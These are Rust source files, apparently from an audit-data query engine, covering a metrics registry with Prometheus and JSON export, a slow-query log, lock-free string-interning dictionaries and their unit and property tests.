    Histogram(Hist),
}

/// Process-global registry of named metrics.
///
/// Keys are sorted (`BTreeMap`), so snapshots and both export formats are
/// deterministic given deterministic inputs.
#[derive(Default)]
pub struct MetricsRegistry {
    inner: Mutex<BTreeMap<String, MetricValue>>,
}

impl MetricsRegistry {
    /// Adds `v` to the counter `name` (creating it at zero).
    pub fn counter_add(&self, name: &str, v: u64) {
        let mut m = self.inner.lock().unwrap();
        match m.entry(name.to_string()).or_insert(MetricValue::Counter(0)) {
            MetricValue::Counter(c) => *c += v,
            _ => debug_assert!(false, "metric `{name}` is not a counter"),
        }
    }

    /// Sets the gauge `name` to `v`.
    pub fn gauge_set(&self, name: &str, v: i64) {
        let mut m = self.inner.lock().unwrap();
        *m.entry(name.to_string()).or_insert(MetricValue::Gauge(0)) = MetricValue::Gauge(v);
    }

    /// Records a nanosecond observation into the histogram `name`.
    pub fn observe_ns(&self, name: &str, ns: u64) {
        let mut m = self.inner.lock().unwrap();
        match m.entry(name.to_string()).or_insert(MetricValue::Histogram(Hist::default())) {
            MetricValue::Histogram(h) => h.observe(ns),
            _ => debug_assert!(false, "metric `{name}` is not a histogram"),
        }
    }

    /// Point-in-time copy of every metric, sorted by name.
    pub fn snapshot(&self) -> MetricsSnapshot {
        let m = self.inner.lock().unwrap();
        MetricsSnapshot { samples: m.iter().map(|(k, v)| (k.clone(), *v)).collect() }
    }

    /// Drops every metric (intended for tests and harnesses).
    pub fn clear(&self) {
        self.inner.lock().unwrap().clear();
    }
}

/// The process-global metrics registry.
pub fn metrics() -> &'static MetricsRegistry {
    static REG: OnceLock<MetricsRegistry> = OnceLock::new();
    REG.get_or_init(MetricsRegistry::default)
}

/// A point-in-time copy of the registry, name-sorted.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct MetricsSnapshot {
    /// `(name, value)` pairs, ascending by name.
    pub samples: Vec<(String, MetricValue)>,
}

impl MetricsSnapshot {
    /// Looks up a sample by name.
    pub fn get(&self, name: &str) -> Option<&MetricValue> {
        self.samples.iter().find(|(k, _)| k == name).map(|(_, v)| v)
    }

    /// Renders the snapshot as a single JSON object (stable key order).
    pub fn to_json(&self) -> String {
        let mut out = String::from("{\"metrics\":{");
        for (i, (name, value)) in self.samples.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            out.push_str(&format!("\"{name}\":"));
            match value {
                MetricValue::Counter(c) => {
                    out.push_str(&format!("{{\"type\":\"counter\",\"value\":{c}}}"));
                }
                MetricValue::Gauge(g) => {
                    out.push_str(&format!("{{\"type\":\"gauge\",\"value\":{g}}}"));
                }
                MetricValue::Histogram(h) => {
                    out.push_str(&format!(
                        "{{\"type\":\"histogram\",\"count\":{},\"sum_ns\":{},\"buckets\":[",
                        h.count, h.sum_ns
                    ));
                    for (b, c) in h.counts.iter().enumerate() {
                        if b > 0 {
                            out.push(',');
                        }
                        if b == HIST_BUCKETS - 1 {
                            out.push_str(&format!("{{\"le\":\"+Inf\",\"count\":{c}}}"));
                        } else {
                            out.push_str(&format!(
                                "{{\"le_ns\":{},\"count\":{c}}}",
                                bucket_bound_ns(b)
                            ));
                        }
                    }
                    out.push_str("]}");
                }
            }
        }
        out.push_str("}}");
        out
    }

    /// Renders the snapshot in Prometheus text exposition format.
    ///
    /// Histograms keep their native nanosecond unit (`le` bounds in ns);
    /// cumulative bucket counts follow the Prometheus histogram contract.
    pub fn to_prometheus(&self) -> String {
        let mut out = String::new();
        for (name, value) in &self.samples {
            match value {
                MetricValue::Counter(c) => {
                    out.push_str(&format!("# TYPE {name} counter\n{name} {c}\n"));
                }
                MetricValue::Gauge(g) => {
                    out.push_str(&format!("# TYPE {name} gauge\n{name} {g}\n"));
                }
                MetricValue::Histogram(h) => {
                    out.push_str(&format!("# TYPE {name} histogram\n"));
                    let mut cum = 0u64;
                    for (b, c) in h.counts.iter().enumerate() {
                        cum += c;
                        if b == HIST_BUCKETS - 1 {
                            out.push_str(&format!("{name}_bucket{{le=\"+Inf\"}} {cum}\n"));
                        } else {
                            out.push_str(&format!(
                                "{name}_bucket{{le=\"{}\"}} {cum}\n",
                                bucket_bound_ns(b)
                            ));
                        }
                    }
                    out.push_str(&format!("{name}_sum {}\n{name}_count {}\n", h.sum_ns, h.count));
                }
            }
        }
        out
    }
}

// ---------------------------------------------------------------------------
// Slow-query log
// ---------------------------------------------------------------------------

/// Retained slow-query entries.
const SLOW_LOG_CAP: usize = 64;

/// One slow query: the text, its wall time, and its ANALYZE report.
#[derive(Clone, Debug)]
pub struct SlowQueryEntry {
    /// The query text as submitted.
    pub query: String,
    /// Total wall time, ns.
    pub wall_ns: u64,
    /// The `EXPLAIN ANALYZE` tree captured at completion.
    pub report: String,
}

/// Bounded log of queries slower than the configured threshold.
pub struct SlowQueryLog {
    /// Threshold in ns; `u64::MAX` disables the log.
    threshold_ns: AtomicU64,
    /// Echo offenders to stderr (on when configured via the env var).
    echo: AtomicBool,
    entries: Mutex<VecDeque<SlowQueryEntry>>,
}

impl SlowQueryLog {
    fn new() -> SlowQueryLog {
        let ms = std::env::var("RAPTOR_SLOW_QUERY_MS").ok().and_then(|v| v.parse::<u64>().ok());
        SlowQueryLog {
            threshold_ns: AtomicU64::new(ms.map_or(u64::MAX, |m| m.saturating_mul(1_000_000))),
            echo: AtomicBool::new(ms.is_some()),
            entries: Mutex::new(VecDeque::new()),
        }
    }

    /// The active threshold in ns, or `None` when the log is disabled.
    pub fn threshold_ns(&self) -> Option<u64> {
        match self.threshold_ns.load(Ordering::Relaxed) {
            u64::MAX => None,
            ns => Some(ns),
        }
    }

    /// Sets (or clears) the threshold programmatically, in milliseconds.
    /// Programmatic configuration records entries without echoing to
    /// stderr; the `RAPTOR_SLOW_QUERY_MS` env gate echoes.
    pub fn set_threshold_ms(&self, ms: Option<u64>) {
        self.threshold_ns
            .store(ms.map_or(u64::MAX, |m| m.saturating_mul(1_000_000)), Ordering::Relaxed);
        self.echo.store(false, Ordering::Relaxed);
    }

    /// Records an offender (caller has already checked the threshold).
    pub fn record(&self, query: &str, wall_ns: u64, report: &str) {
        if self.echo.load(Ordering::Relaxed) {
            eprintln!("[raptor] slow query ({:.3} ms): {query}\n{report}", wall_ns as f64 / 1e6);
        }
        let mut entries = self.entries.lock().unwrap();
        if entries.len() == SLOW_LOG_CAP {
            entries.pop_front();
        }
        entries.push_back(SlowQueryEntry {
            query: query.to_string(),
            wall_ns,
            report: report.to_string(),
        });
    }

    /// Copies out the retained entries, oldest first.
    pub fn entries(&self) -> Vec<SlowQueryEntry> {
        self.entries.lock().unwrap().iter().cloned().collect()
    }

    /// Drops all retained entries.
    pub fn clear(&self) {
        self.entries.lock().unwrap().clear();
    }
}

/// The process-global slow-query log.
pub fn slow_log() -> &'static SlowQueryLog {
    static LOG: OnceLock<SlowQueryLog> = OnceLock::new();
    LOG.get_or_init(SlowQueryLog::new)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn label_truncates_at_char_boundary() {
        let l = Label::new("short");
        assert_eq!(l.as_str(), "short");
        let long = "αβγδεζηθικλμνξοπρστ"; // 2 bytes per char
        let l = Label::new(long);
        assert!(l.as_str().len() <= 23);
        assert!(long.starts_with(l.as_str()));
    }

    #[test]
    fn sink_records_and_snapshots_in_order() {
        let sink = TraceSink::new();
        sink.set_enabled(true);
        for i in 0..10u64 {
            let mut s = EMPTY_SPAN;
            s.id = i + 1;
            s.name = "t";
            sink.record(s);
        }
        let spans = sink.snapshot();
        assert_eq!(spans.len(), 10);
        assert_eq!(spans.iter().map(|s| s.id).collect::<Vec<_>>(), (1..=10).collect::<Vec<_>>());
        assert_eq!(sink.span_count(), 10);
        sink.clear();
        assert_eq!(sink.span_count(), 0);
        assert!(sink.snapshot().is_empty());
    }

    #[test]
    fn sink_wraps_keeping_newest() {
        let sink = TraceSink::new();
        sink.set_enabled(true);
        let total = RING_CAP as u64 + 17;
        for i in 0..total {
            let mut s = EMPTY_SPAN;
            s.id = i + 1;
            sink.record(s);
        }
        let spans = sink.snapshot();
        assert_eq!(spans.len(), RING_CAP);
        assert_eq!(spans.first().unwrap().id, total - RING_CAP as u64 + 1);
        assert_eq!(spans.last().unwrap().id, total);
    }

    #[test]
    fn sink_disabled_records_nothing() {
        let sink = TraceSink::new();
        sink.set_enabled(false);
        sink.record(EMPTY_SPAN);
        assert_eq!(sink.span_count(), 0);
    }

    #[test]
    fn concurrent_writers_never_tear() {
        let sink = std::sync::Arc::new(TraceSink::new());
        sink.set_enabled(true);
        let mut handles = Vec::new();
        for t in 0..4u64 {
            let sink = sink.clone();
            handles.push(std::thread::spawn(move || {
                for i in 0..5_000u64 {
                    let mut s = EMPTY_SPAN;
                    s.id = t * 5_000 + i + 1;
                    s.start_ns = s.id * 3;
                    s.dur_ns = s.id * 7;
                    sink.record(s);
                }
            }));
        }
        for _ in 0..50 {
            for s in sink.snapshot() {
                // Internal consistency proves no torn reads survive.
                assert_eq!(s.start_ns, s.id * 3);
                assert_eq!(s.dur_ns, s.id * 7);
            }
        }
        for h in handles {
            h.join().unwrap();
        }
        assert_eq!(sink.span_count(), 20_000);
    }

    #[test]
    fn span_guard_links_parents() {
        trace().set_enabled(true);
        trace().clear();
        let outer_id;
        {
            let mut outer = span("test.outer");
            outer.label("o");
            outer_id = outer.id();
            {
                let mut inner = span("test.inner");
                inner.attr("rows", 42);
            }
        }
        let spans = trace().snapshot();
        trace().set_enabled(false);
        let inner = spans.iter().find(|s| s.name == "test.inner").unwrap();
        let outer = spans.iter().find(|s| s.name == "test.outer").unwrap();
        assert_eq!(inner.parent, outer_id);
        assert_eq!(outer.id, outer_id);
        assert_eq!(inner.attr("rows"), Some(42));
        assert_eq!(outer.label.as_str(), "o");
        // Inner finished first, so it is recorded first.
        assert!(
            spans.iter().position(|s| s.name == "test.inner").unwrap()
                < spans.iter().position(|s| s.name == "test.outer").unwrap()
        );
    }

    #[test]
    fn disabled_span_is_inert() {
        let sink = trace();
        let was = sink.enabled();
        sink.set_enabled(false);
        let before = sink.span_count();
        {
            let mut g = span("test.off");
            g.label("x");
            g.attr("k", 1);
            assert_eq!(g.id(), 0);
        }
        assert_eq!(sink.span_count(), before);
        sink.set_enabled(was);
    }

    #[test]
    fn metrics_registry_roundtrip() {
        let reg = MetricsRegistry::default();
        reg.counter_add("raptor_rows_scanned_total", 5);
        reg.counter_add("raptor_rows_scanned_total", 7);
        reg.gauge_set("raptor_dict_symbols", 31);
        reg.observe_ns("raptor_query_latency_ns", 500); // bucket 0 (<=1024)
        reg.observe_ns("raptor_query_latency_ns", 5_000); // bucket 2 (<=16384)
        let snap = reg.snapshot();
        assert_eq!(snap.get("raptor_rows_scanned_total"), Some(&MetricValue::Counter(12)));
        assert_eq!(snap.get("raptor_dict_symbols"), Some(&MetricValue::Gauge(31)));
        match snap.get("raptor_query_latency_ns") {
            Some(MetricValue::Histogram(h)) => {
                assert_eq!(h.count, 2);
                assert_eq!(h.sum_ns, 5_500);
                assert_eq!(h.counts[0], 1);
                assert_eq!(h.counts[2], 1);
            }
            other => panic!("unexpected {other:?}"),
        }
        // Names are sorted.
        let names: Vec<_> = snap.samples.iter().map(|(n, _)| n.clone()).collect();
        let mut sorted = names.clone();
        sorted.sort();
        assert_eq!(names, sorted);
    }

    #[test]
    fn metrics_json_and_prometheus_shapes() {
        let reg = MetricsRegistry::default();
        reg.counter_add("c_total", 3);
        reg.gauge_set("g", -2);
        reg.observe_ns("h_ns", 2048);
        let snap = reg.snapshot();
        let json = snap.to_json();
        assert!(json.starts_with("{\"metrics\":{"));
        assert!(json.contains("\"c_total\":{\"type\":\"counter\",\"value\":3}"));
        assert!(json.contains("\"g\":{\"type\":\"gauge\",\"value\":-2}"));
        assert!(json.contains("\"type\":\"histogram\",\"count\":1,\"sum_ns\":2048"));
        assert!(json.contains("\"le\":\"+Inf\""));
        let prom = snap.to_prometheus();
        assert!(prom.contains("# TYPE c_total counter\nc_total 3\n"));
        assert!(prom.contains("# TYPE g gauge\ng -2\n"));
        assert!(prom.contains("h_ns_bucket{le=\"4096\"} 1\n"));
        assert!(prom.contains("h_ns_bucket{le=\"+Inf\"} 1\n"));
        assert!(prom.contains("h_ns_sum 2048\nh_ns_count 1\n"));
        // Cumulative buckets: the 1024 bucket saw nothing.
        assert!(prom.contains("h_ns_bucket{le=\"1024\"} 0\n"));
    }

    #[test]
    fn hist_bucket_bounds_are_exponential() {
        assert_eq!(bucket_bound_ns(0), 1_024);
        assert_eq!(bucket_bound_ns(1), 4_096);
        assert_eq!(bucket_bound_ns(14), 1_024 << 28);
    }

    #[test]
    fn slow_log_records_and_caps() {
        let log = SlowQueryLog::new();
        assert_eq!(log.threshold_ns(), None); // env not set in tests
        log.set_threshold_ms(Some(2));
        assert_eq!(log.threshold_ns(), Some(2_000_000));
        for i in 0..(SLOW_LOG_CAP + 3) {
            log.record(&format!("q{i}"), 5_000_000, "tree");
        }
        let entries = log.entries();
        assert_eq!(entries.len(), SLOW_LOG_CAP);
        assert_eq!(entries.first().unwrap().query, "q3");
        assert_eq!(entries.last().unwrap().query, format!("q{}", SLOW_LOG_CAP + 2));
        assert_eq!(entries.last().unwrap().report, "tree");
        log.clear();
        assert!(log.entries().is_empty());
        log.set_threshold_ms(None);
        assert_eq!(log.threshold_ns(), None);
    }
}
