//! String interning.
//!
//! Entity attributes (file paths, executable names, IPs) repeat massively in
//! audit data — one enterprise host produces millions of events over a few
//! thousand distinct strings. Both storage engines intern attribute strings
//! so rows hold 4-byte [`Sym`]s, comparisons are integer compares, and the
//! distinct-string dictionary can be scanned for `LIKE`/`CONTAINS`
//! acceleration.

use crate::hash::FxHashMap;

/// An interned string handle. Ordering follows insertion order, not
/// lexicographic order.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Debug)]
pub struct Sym(pub u32);

impl Sym {
    #[inline]
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

/// Append-only string interner.
#[derive(Default, Debug)]
pub struct Interner {
    map: FxHashMap<Box<str>, Sym>,
    strings: Vec<Box<str>>,
}

impl Interner {
    pub fn new() -> Self {
        Self::default()
    }

    /// Interns `s`, returning its stable handle.
    pub fn intern(&mut self, s: &str) -> Sym {
        if let Some(&sym) = self.map.get(s) {
            return sym;
        }
        let sym = Sym(self.strings.len() as u32);
        let boxed: Box<str> = s.into();
        self.strings.push(boxed.clone());
        self.map.insert(boxed, sym);
        sym
    }

    /// Looks up a handle without interning.
    pub fn get(&self, s: &str) -> Option<Sym> {
        self.map.get(s).copied()
    }

    /// Resolves a handle back to its string.
    ///
    /// # Panics
    /// Panics if `sym` was produced by a different interner.
    #[inline]
    pub fn resolve(&self, sym: Sym) -> &str {
        &self.strings[sym.index()]
    }

    /// Number of distinct interned strings.
    pub fn len(&self) -> usize {
        self.strings.len()
    }

    pub fn is_empty(&self) -> bool {
        self.strings.is_empty()
    }

    /// Iterates over `(Sym, &str)` pairs in insertion order. Used by the
    /// storage layer to evaluate `LIKE` over the dictionary instead of over
    /// every row.
    pub fn iter(&self) -> impl Iterator<Item = (Sym, &str)> {
        self.strings.iter().enumerate().map(|(i, s)| (Sym(i as u32), s.as_ref()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn intern_is_idempotent() {
        let mut i = Interner::new();
        let a = i.intern("/etc/passwd");
        let b = i.intern("/etc/passwd");
        assert_eq!(a, b);
        assert_eq!(i.len(), 1);
    }

    #[test]
    fn resolve_roundtrip() {
        let mut i = Interner::new();
        let syms: Vec<Sym> = (0..100).map(|n| i.intern(&format!("proc{n}"))).collect();
        for (n, sym) in syms.iter().enumerate() {
            assert_eq!(i.resolve(*sym), format!("proc{n}"));
        }
    }

    #[test]
    fn get_does_not_intern() {
        let mut i = Interner::new();
        assert_eq!(i.get("missing"), None);
        let s = i.intern("present");
        assert_eq!(i.get("present"), Some(s));
        assert_eq!(i.len(), 1);
    }

    #[test]
    fn iter_in_insertion_order() {
        let mut i = Interner::new();
        i.intern("b");
        i.intern("a");
        let all: Vec<&str> = i.iter().map(|(_, s)| s).collect();
        assert_eq!(all, vec!["b", "a"]);
    }
}
