//! String interning.
//!
//! Entity attributes (file paths, executable names, IPs) repeat massively in
//! audit data — one enterprise host produces millions of events over a few
//! thousand distinct strings. Both storage engines intern attribute strings
//! so rows hold 4-byte [`Sym`]s, comparisons are integer compares, and the
//! distinct-string dictionary can be scanned for `LIKE`/`CONTAINS`
//! acceleration.
//!
//! Two interners live here:
//!
//! * [`Interner`] — the plain single-owner interner (useful for tests and
//!   isolated tools),
//! * [`SharedDict`] — the **shared dictionary plane**: one concurrently
//!   readable dictionary hoisted above both storage backends, so equal
//!   strings from the relational and graph stores map to the *same* [`Sym`]
//!   and string equality is an integer compare across the whole query
//!   pipeline. Per-row reads ([`SharedDict::resolve`]) never lock — the
//!   parallel execution plane resolves symbols from many threads while
//!   writes happen only on the (mutex-serialized) intern path.

use std::mem::MaybeUninit;
use std::sync::atomic::{AtomicPtr, AtomicUsize, Ordering};
use std::sync::{Arc, RwLock};

use crate::hash::FxHashMap;

/// An interned string handle. Ordering follows insertion order, not
/// lexicographic order — value-plane comparisons therefore resolve through
/// the dictionary (`cmp_with`-style) instead of comparing handles.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Debug)]
pub struct Sym(pub u32);

impl Sym {
    #[inline]
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

/// Append-only string interner (single owner).
#[derive(Default, Debug)]
pub struct Interner {
    map: FxHashMap<Box<str>, Sym>,
    strings: Vec<Box<str>>,
}

impl Interner {
    pub fn new() -> Self {
        Self::default()
    }

    /// Interns `s`, returning its stable handle.
    pub fn intern(&mut self, s: &str) -> Sym {
        if let Some(&sym) = self.map.get(s) {
            return sym;
        }
        let sym = Sym(self.strings.len() as u32);
        let boxed: Box<str> = s.into();
        self.strings.push(boxed.clone());
        self.map.insert(boxed, sym);
        sym
    }

    /// Looks up a handle without interning.
    pub fn get(&self, s: &str) -> Option<Sym> {
        self.map.get(s).copied()
    }

    /// Resolves a handle back to its string.
    ///
    /// # Panics
    /// Panics if `sym` was produced by a different interner.
    #[inline]
    pub fn resolve(&self, sym: Sym) -> &str {
        &self.strings[sym.index()]
    }

    /// Number of distinct interned strings.
    pub fn len(&self) -> usize {
        self.strings.len()
    }

    pub fn is_empty(&self) -> bool {
        self.strings.is_empty()
    }

    /// Iterates over `(Sym, &str)` pairs in insertion order. Used by the
    /// storage layer to evaluate `LIKE` over the dictionary instead of over
    /// every row.
    pub fn iter(&self) -> impl Iterator<Item = (Sym, &str)> {
        self.strings.iter().enumerate().map(|(i, s)| (Sym(i as u32), s.as_ref()))
    }
}

/// First arena bucket capacity; bucket `i` holds `FIRST_BUCKET << i` slots.
const FIRST_BUCKET: usize = 1 << 10;
/// Bucket count. `FIRST_BUCKET * (2^BUCKETS - 1) > u32::MAX`, so every
/// 32-bit [`Sym`] is addressable.
const BUCKETS: usize = 23;

/// One published string: a raw view into the `Box<str>` owned by the map.
/// The map is append-only and never drops entries, so the bytes are stable
/// for the dictionary's lifetime even when the map itself rehashes (moving
/// the `Box`es moves pointers-to-bytes, not the bytes).
#[derive(Clone, Copy)]
struct Slot {
    ptr: *const u8,
    len: usize,
}

struct DictInner {
    /// string → handle, guarded for lookups/interning. `resolve` never
    /// touches it.
    map: RwLock<FxHashMap<Box<str>, Sym>>,
    /// Published entry count. Slots `< len` are immutable and safe to read;
    /// the `Release` store here is what publishes each slot write.
    len: AtomicUsize,
    /// Sharded append-only arena: bucket `i` is a heap array of
    /// `FIRST_BUCKET << i` slots, allocated once and never moved, so
    /// resolving is two relaxed-ish loads and an index — no locks.
    buckets: [AtomicPtr<MaybeUninit<Slot>>; BUCKETS],
}

// SAFETY: all mutation is serialized behind the map's write lock; readers
// only dereference slots published by a `Release` store of `len` that they
// observed with `Acquire`. The raw pointers view heap bytes owned by the
// append-only map.
unsafe impl Send for DictInner {}
unsafe impl Sync for DictInner {}

/// Bucket and in-bucket offset of global index `k`.
#[inline]
fn locate(k: usize) -> (usize, usize) {
    let q = k / FIRST_BUCKET + 1;
    let bucket = (usize::BITS - 1 - q.leading_zeros()) as usize;
    let offset = k - FIRST_BUCKET * ((1 << bucket) - 1);
    (bucket, offset)
}

#[inline]
fn bucket_capacity(bucket: usize) -> usize {
    FIRST_BUCKET << bucket
}

impl DictInner {
    fn new() -> Self {
        DictInner {
            map: RwLock::new(FxHashMap::default()),
            len: AtomicUsize::new(0),
            buckets: std::array::from_fn(|_| AtomicPtr::new(std::ptr::null_mut())),
        }
    }

    /// Appends one string (caller holds the map write lock — the single
    /// writer at a time). Returns the new handle.
    fn push(&self, bytes: &str) -> Sym {
        let index = self.len.load(Ordering::Relaxed);
        assert!(index < u32::MAX as usize, "dictionary overflow (u32 symbol space)");
        let (bucket, offset) = locate(index);
        let mut base = self.buckets[bucket].load(Ordering::Acquire);
        if base.is_null() {
            let fresh: Box<[MaybeUninit<Slot>]> =
                (0..bucket_capacity(bucket)).map(|_| MaybeUninit::uninit()).collect();
            base = Box::into_raw(fresh) as *mut MaybeUninit<Slot>;
            self.buckets[bucket].store(base, Ordering::Release);
        }
        // SAFETY: `offset < bucket_capacity(bucket)` by construction, the
        // slot is unpublished (index >= len), and writers are serialized.
        unsafe {
            (*base.add(offset)).write(Slot { ptr: bytes.as_ptr(), len: bytes.len() });
        }
        // Publish: readers that observe the new length see the slot write.
        self.len.store(index + 1, Ordering::Release);
        Sym(index as u32)
    }

    #[inline]
    fn read(&self, index: usize) -> &str {
        let published = self.len.load(Ordering::Acquire);
        assert!(index < published, "Sym({index}) resolved against a foreign/short dictionary");
        let (bucket, offset) = locate(index);
        let base = self.buckets[bucket].load(Ordering::Acquire);
        // SAFETY: index < len ⇒ the slot was initialized and published
        // before the len store we just acquired; the viewed bytes live as
        // long as `self` (append-only map ownership).
        unsafe {
            let slot = (*base.add(offset)).assume_init();
            std::str::from_utf8_unchecked(std::slice::from_raw_parts(slot.ptr, slot.len))
        }
    }
}

impl Drop for DictInner {
    fn drop(&mut self) {
        for (bucket, ptr) in self.buckets.iter().enumerate() {
            let base = ptr.load(Ordering::Acquire);
            if !base.is_null() {
                // SAFETY: reconstructing the Box<[MaybeUninit<Slot>]> we
                // leaked in `push`; slots are plain data (string bytes are
                // owned, and dropped, by the map).
                unsafe {
                    drop(Box::from_raw(std::ptr::slice_from_raw_parts_mut(
                        base,
                        bucket_capacity(bucket),
                    )));
                }
            }
        }
    }
}

/// The shared dictionary plane: a cheaply clonable handle to one
/// concurrently readable, append-only string dictionary.
///
/// Concurrency model (see ARCHITECTURE.md "The shared dictionary plane"):
///
/// * [`resolve`](SharedDict::resolve) — the per-row hot path — is
///   **lock-free**: an atomic length check plus an arena index. The PR-4
///   worker pool resolves symbols from many threads during scans, joins and
///   rendering.
/// * [`get`](SharedDict::get) takes a shared read lock (concurrent readers
///   never block each other); it runs per *request*, not per row — typed
///   requests carry pre-interned symbols.
/// * [`intern`](SharedDict::intern) takes the write lock. Writes happen on
///   the single-threaded ingest path and at query-compile time.
///
/// Handles created by [`clone`](Clone::clone) observe the same dictionary;
/// [`ptr_eq`](SharedDict::ptr_eq) asserts two components share one plane.
#[derive(Clone)]
pub struct SharedDict {
    inner: Arc<DictInner>,
}

impl Default for SharedDict {
    fn default() -> Self {
        Self::new()
    }
}

impl std::fmt::Debug for SharedDict {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("SharedDict").field("len", &self.len()).finish()
    }
}

impl SharedDict {
    pub fn new() -> Self {
        SharedDict { inner: Arc::new(DictInner::new()) }
    }

    /// Interns `s`, returning its stable handle. Takes the write lock only
    /// on a miss.
    pub fn intern(&self, s: &str) -> Sym {
        if let Some(sym) = self.get(s) {
            return sym;
        }
        let mut map = self.inner.map.write().expect("dictionary lock poisoned");
        if let Some(&sym) = map.get(s) {
            return sym;
        }
        let boxed: Box<str> = s.into();
        let sym = self.inner.push(&boxed);
        map.insert(boxed, sym);
        sym
    }

    /// Looks up a handle without interning (shared read lock).
    pub fn get(&self, s: &str) -> Option<Sym> {
        self.inner.map.read().expect("dictionary lock poisoned").get(s).copied()
    }

    /// Resolves a handle back to its string — lock-free.
    ///
    /// # Panics
    /// Panics if `sym` was produced by a different dictionary (or a longer
    /// one; cross-dictionary handles are a bug by construction).
    #[inline]
    pub fn resolve(&self, sym: Sym) -> &str {
        self.inner.read(sym.index())
    }

    /// Number of distinct interned strings.
    pub fn len(&self) -> usize {
        self.inner.len.load(Ordering::Acquire)
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Do two handles observe the same dictionary?
    pub fn ptr_eq(&self, other: &SharedDict) -> bool {
        Arc::ptr_eq(&self.inner, &other.inner)
    }

    /// Iterates `(Sym, &str)` over the strings published at call time, in
    /// insertion order (lock-free; concurrent interns past the snapshot are
    /// not visited).
    pub fn iter(&self) -> impl Iterator<Item = (Sym, &str)> + '_ {
        (0..self.len()).map(|i| (Sym(i as u32), self.inner.read(i)))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn intern_is_idempotent() {
        let mut i = Interner::new();
        let a = i.intern("/etc/passwd");
        let b = i.intern("/etc/passwd");
        assert_eq!(a, b);
        assert_eq!(i.len(), 1);
    }

    #[test]
    fn resolve_roundtrip() {
        let mut i = Interner::new();
        let syms: Vec<Sym> = (0..100).map(|n| i.intern(&format!("proc{n}"))).collect();
        for (n, sym) in syms.iter().enumerate() {
            assert_eq!(i.resolve(*sym), format!("proc{n}"));
        }
    }

    #[test]
    fn get_does_not_intern() {
        let mut i = Interner::new();
        assert_eq!(i.get("missing"), None);
        let s = i.intern("present");
        assert_eq!(i.get("present"), Some(s));
        assert_eq!(i.len(), 1);
    }

    #[test]
    fn iter_in_insertion_order() {
        let mut i = Interner::new();
        i.intern("b");
        i.intern("a");
        let all: Vec<&str> = i.iter().map(|(_, s)| s).collect();
        assert_eq!(all, vec!["b", "a"]);
    }

    #[test]
    fn shared_dict_roundtrip() {
        let d = SharedDict::new();
        let a = d.intern("/etc/passwd");
        assert_eq!(d.intern("/etc/passwd"), a);
        assert_eq!(d.get("/etc/passwd"), Some(a));
        assert_eq!(d.get("missing"), None);
        assert_eq!(d.resolve(a), "/etc/passwd");
        assert_eq!(d.len(), 1);
    }

    #[test]
    fn shared_dict_handles_observe_one_dictionary() {
        let d = SharedDict::new();
        let clone = d.clone();
        let a = d.intern("alpha");
        assert_eq!(clone.get("alpha"), Some(a));
        assert_eq!(clone.resolve(a), "alpha");
        assert!(d.ptr_eq(&clone));
        assert!(!d.ptr_eq(&SharedDict::new()));
        let order: Vec<&str> = clone.iter().map(|(_, s)| s).collect();
        assert_eq!(order, vec!["alpha"]);
    }

    #[test]
    fn shared_dict_crosses_bucket_boundaries() {
        let d = SharedDict::new();
        // Force allocation of several buckets (first bucket holds 1024).
        let n = FIRST_BUCKET * 3 + 17;
        let syms: Vec<Sym> = (0..n).map(|i| d.intern(&format!("s{i}"))).collect();
        for (i, sym) in syms.iter().enumerate() {
            assert_eq!(d.resolve(*sym), format!("s{i}"));
        }
        assert_eq!(d.len(), n);
    }

    #[test]
    fn shared_dict_concurrent_readers_during_writes() {
        let d = SharedDict::new();
        for i in 0..256 {
            d.intern(&format!("warm{i}"));
        }
        std::thread::scope(|scope| {
            let reader = |dict: SharedDict| {
                move || {
                    for _ in 0..2000 {
                        let n = dict.len();
                        // Resolve a published prefix while the writer appends.
                        for i in (0..n).step_by(37) {
                            let s = dict.resolve(Sym(i as u32));
                            assert!(!s.is_empty());
                        }
                    }
                }
            };
            for _ in 0..3 {
                scope.spawn(reader(d.clone()));
            }
            for i in 0..4000 {
                d.intern(&format!("live{i}"));
            }
        });
        assert_eq!(d.len(), 256 + 4000);
    }

    #[test]
    #[should_panic(expected = "foreign")]
    fn foreign_sym_panics() {
        let d = SharedDict::new();
        d.intern("only");
        let other = SharedDict::new();
        other.resolve(Sym(0)); // other is empty: Sym(0) is foreign
    }

    #[test]
    fn locate_math() {
        assert_eq!(locate(0), (0, 0));
        assert_eq!(locate(FIRST_BUCKET - 1), (0, FIRST_BUCKET - 1));
        assert_eq!(locate(FIRST_BUCKET), (1, 0));
        assert_eq!(locate(3 * FIRST_BUCKET - 1), (1, 2 * FIRST_BUCKET - 1));
        assert_eq!(locate(3 * FIRST_BUCKET), (2, 0));
        // The bucket ladder covers the whole u32 symbol space.
        let (b, o) = locate(u32::MAX as usize);
        assert!(b < BUCKETS, "{b}");
        assert!(o < bucket_capacity(b));
    }
}
