//! Property-based tests for the shared primitives.

use proptest::prelude::*;
use raptor_common::strdist::{containment_overlap, levenshtein, similarity};
use raptor_common::time::{parse_datetime, Timestamp, NANOS_PER_SEC};

proptest! {
    /// Levenshtein is a metric: identity, symmetry, triangle inequality.
    #[test]
    fn levenshtein_metric_axioms(a in "[a-z/._]{0,12}", b in "[a-z/._]{0,12}", c in "[a-z/._]{0,12}") {
        prop_assert_eq!(levenshtein(&a, &a), 0);
        prop_assert_eq!(levenshtein(&a, &b), levenshtein(&b, &a));
        prop_assert!(levenshtein(&a, &c) <= levenshtein(&a, &b) + levenshtein(&b, &c));
    }

    /// Distance is bounded by the longer string's length.
    #[test]
    fn levenshtein_bounded(a in "[a-z]{0,16}", b in "[a-z]{0,16}") {
        let d = levenshtein(&a, &b);
        prop_assert!(d <= a.len().max(b.len()));
        // And at least the length difference.
        prop_assert!(d >= a.len().abs_diff(b.len()));
    }

    /// Similarity stays in [0, 1]; overlap too.
    #[test]
    fn similarity_bounds(a in "[a-z/.]{0,16}", b in "[a-z/.]{0,16}") {
        let s = similarity(&a, &b);
